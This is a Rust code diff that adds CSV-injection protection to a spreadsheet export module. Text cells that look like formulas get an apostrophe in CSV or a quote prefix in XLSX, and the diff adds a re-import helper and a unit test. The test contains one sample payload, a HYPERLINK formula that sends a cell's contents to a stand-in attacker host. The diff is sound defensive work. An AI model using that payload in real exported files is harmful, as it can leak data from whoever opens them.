@@ -47,6 +47,33 @@ impl From<bool> for Cell {
     }
 }
 
+/// Whether a text cell would be read as a formula by a spreadsheet: it starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return (OWASP, "CSV injection"). Such text — a name a referent
+/// typed as `=HYPERLINK(…)` — is neutralised on export: in CSV with a leading apostrophe, in
+/// XLSX with Excel's quote prefix (the value stays as typed, marked as text). Numbers, dates and
+/// money are typed cells and stay numbers.
+pub fn sembra_formula(s: &str) -> bool {
+    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// The text of a cell as the CSV export writes it.
+fn testo_sicuro(s: &str) -> std::borrow::Cow<'_, str> {
+    if sembra_formula(s) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
+/// Undoes [`testo_sicuro`] for a file exported by Piazza and imported back: the apostrophe
+/// added before text that looks like a formula is dropped.
+pub fn togli_neutralizzazione(s: &str) -> &str {
+    match s.strip_prefix('\'') {
+        Some(rest) if sembra_formula(rest) => rest,
+        _ => s,
+    }
+}
+
 /// A table to export: column headers and rows.
 #[derive(Debug, Default)]
 pub struct Table {
@@ -75,7 +102,7 @@ impl Table {
                 let fields: Vec<String> = row
                     .iter()
                     .map(|c| match c {
-                        Cell::Text(s) => s.clone(),
+                        Cell::Text(s) => testo_sicuro(s).into_owned(),
                         Cell::Int(n) => n.to_string(),
                         Cell::Dec(x, p) => format!("{x:.p$}").replace('.', ","),
                         Cell::Date(d) => d.format("%d/%m/%Y").to_string(),
@@ -101,6 +128,7 @@ impl Table {
         ws.set_name(sheet).map_err(err)?;
         let bold = Format::new().set_bold();
         let date_fmt = Format::new().set_num_format("dd/mm/yyyy");
+        let testo = Format::new().set_quote_prefix();
         for (c, h) in self.headers.iter().enumerate() {
             ws.write_string_with_format(0, c as u16, *h, &bold)
                 .map_err(err)?;
@@ -110,6 +138,9 @@ impl Table {
             for (c, cell) in row.iter().enumerate() {
                 let c = c as u16;
                 match cell {
+                    Cell::Text(s) if sembra_formula(s) => {
+                        ws.write_string_with_format(r, c, s, &testo).map_err(err)?;
+                    }
                     Cell::Text(s) => {
                         ws.write_string(r, c, s).map_err(err)?;
                     }
@@ -202,6 +233,43 @@ mod tests {
             s.trim_start_matches('\u{feff}'),
             "Nome;Superficie;Data\r\n\"Forlì; città\";1234,50;09/06/2024\r\n"
         );
+    }
+
+    #[test]
+    fn formulas_are_neutralised_numbers_are_not() {
+        let mut t = Table::new(&["Nome", "Saldo", "Nota"]);
+        t.rows.push(vec![
+            r#"=HYPERLINK("http://evil.example/?"&A1,"Apri")"#.into(),
+            Cell::Dec(-1234.5, 2),
+            "@SUM(A1)".into(),
+        ]);
+        t.rows.push(vec!["+39 055".into(), Cell::Int(-3), "\tx".into()]);
+        t.rows.push(vec!["-".into(), Cell::Empty, "Forlì".into()]);
+        let s = String::from_utf8(t.to_csv()).unwrap();
+        let righe: Vec<&str> = s.trim_start_matches('\u{feff}').split("\r\n").collect();
+        assert_eq!(
+            righe[1],
+            r#""'=HYPERLINK(""http://evil.example/?""&A1,""Apri"")";-1234,50;'@SUM(A1)"#
+        );
+        assert_eq!(righe[2], "'+39 055;-3;\"'\tx\"");
+        assert_eq!(righe[3], "'-;;Forlì");
+        assert_eq!(togli_neutralizzazione("'=A1"), "=A1");
+        assert_eq!(togli_neutralizzazione("'ciao"), "'ciao");
+        // XLSX: the text cell carries the quote prefix in its style, the number stays a number.
+        let x = t.to_xlsx("Foglio").unwrap();
+        let mut z = zip::ZipArchive::new(std::io::Cursor::new(x)).unwrap();
+        let mut stili = String::new();
+        std::io::Read::read_to_string(&mut z.by_name("xl/styles.xml").unwrap(), &mut stili)
+            .unwrap();
+        assert!(stili.contains(r#"quotePrefix="1""#), "{stili}");
+        let mut foglio = String::new();
+        std::io::Read::read_to_string(
+            &mut z.by_name("xl/worksheets/sheet1.xml").unwrap(),
+            &mut foglio,
+        )
+        .unwrap();
+        assert!(foglio.contains("<v>-1234.5</v>"), "{foglio}");
+        assert!(!foglio.contains("<f>"), "{foglio}");
     }
 
     #[test]
